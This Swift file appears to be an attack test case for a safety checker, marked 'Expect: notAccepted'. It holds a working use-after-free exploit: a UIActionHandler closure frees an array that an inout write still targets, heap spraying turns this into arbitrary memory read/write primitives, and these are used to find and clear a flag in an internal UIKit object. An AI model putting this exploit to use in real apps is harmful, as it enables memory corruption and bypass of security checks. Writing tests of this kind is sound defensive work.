// Attack: changes an array that a local function uses, by a closure whose type has a name of UIKit's.
// Exercise: 3
// Expect: notAccepted
// Held by: a name can stand for the type of a closure
import UIKit
class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        open()
        if recorder == 0 { findRecorder(address(self)) }
        if recorder != 0 { write(recorder + 72, read(recorder + 72) & ~(0x20 << 32)) }
        return super.hitTest(point, with: event)
    }
}
var recorder: UInt = 0
func near(_ p: UInt) -> Bool { p & 15 == 0 && p > base - 0x800000 && p < base + 0x40000 }
func findRecorder(_ me: UInt) {
    for i in 2..<160 as Range<UInt> {
        let p = read(me + 8 * i)
        guard near(p) else { continue }
        for j in 2..<300 as Range<UInt> {
            let r = read(p + 8 * j)
            guard near(r), read(r + 64) >> 40 == 0x800000, read(r + 56) == 0 else { continue }
            recorder = r
            return
        }
    }
}
final class Marker { var a = 0x5151_5151_1234_5678; var b = 0x1717_0101_4321_8765 }
var kept: [[Int]] = []
var which = 0
let marker = Marker()
var base: UInt = 0
func address(_ o: AnyObject) -> UInt { UInt(bitPattern: ObjectIdentifier(o)) }
func read(_ a: UInt) -> UInt { UInt(bitPattern: kept[which][Int((a &- base) >> 3)]) }
func write(_ a: UInt, _ x: UInt) { kept[which][Int((a &- base) >> 3)] = Int(bitPattern: x) }
func open() {
    guard base == 0 else { return }
    let home = address(marker)
    let action = UIAction(title: "", handler: { _ in })
    var list = [Int](repeating: 1, count: 20_000)
    func g(_ h: UIActionHandler) { change(&list[204], action, h) }
    g { _ in
        list = []
        for _ in 0..<150 { kept.append([Int](repeating: 7, count: 200)) }
    }
    which = kept.firstIndex { $0.count > 200 } ?? -1
    print(which)
    var k = (1 << 61) - 1
    while kept[which][k] != 0x1717_0101_4321_8765 || kept[which][k - 1] != 0x5151_5151_1234_5678 { k -= 1 }
    base = home + 16 &- UInt(k - 1) &* 8
}

func change(_ x: inout Int, _ action: UIAction, _ h: UIActionHandler) {
    h(action)
    x = 0x7f00_0000_0000_0000
}
